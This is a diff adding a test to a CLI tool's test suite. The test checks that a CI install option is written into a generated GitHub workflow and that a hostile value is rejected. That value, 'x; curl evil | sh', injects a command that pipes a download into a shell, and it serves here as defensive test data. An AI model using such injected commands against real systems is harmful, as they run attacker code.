@@ -69,4 +69,18 @@ describe('new --from-... on the command line', () => {
     expect(r.code).toBe(2);
     expect(r.err).toContain('No operation nope in the description');
   });
+
+  it('--ci-install sets where the project\'s CI workflow installs Connector Studio from; a hostile one writes nothing', async () => {
+    const work = await tmpDir('api-import-ci-');
+    const cloudlock = path.join(FIXTURES, 'cloudlock.postman_collection.json');
+    const spec = 'git+https://github.com/acme/connector-studio.git#v1.2.0';
+    const r = await runNew(work, 'cloudlock', '--from-postman', cloudlock, '--ci-install', spec, '--json');
+    expect(r.code, r.err).toBe(0);
+    const { projectRoot } = JSON.parse(r.out) as { projectRoot: string };
+    expect(await readFile(path.join(projectRoot, '.github', 'workflows', 'connector.yml'), 'utf8')).toContain(`npm install -g ${spec}`);
+    const bad = await runNew(work, 'hostile', '--from-postman', cloudlock, '--ci-install', 'x; curl evil | sh');
+    expect(bad.code).toBe(2);
+    const { readdir } = await import('node:fs/promises');
+    expect((await readdir(work)).filter((f) => f.startsWith('hostile'))).toEqual([]);
+  });
 });
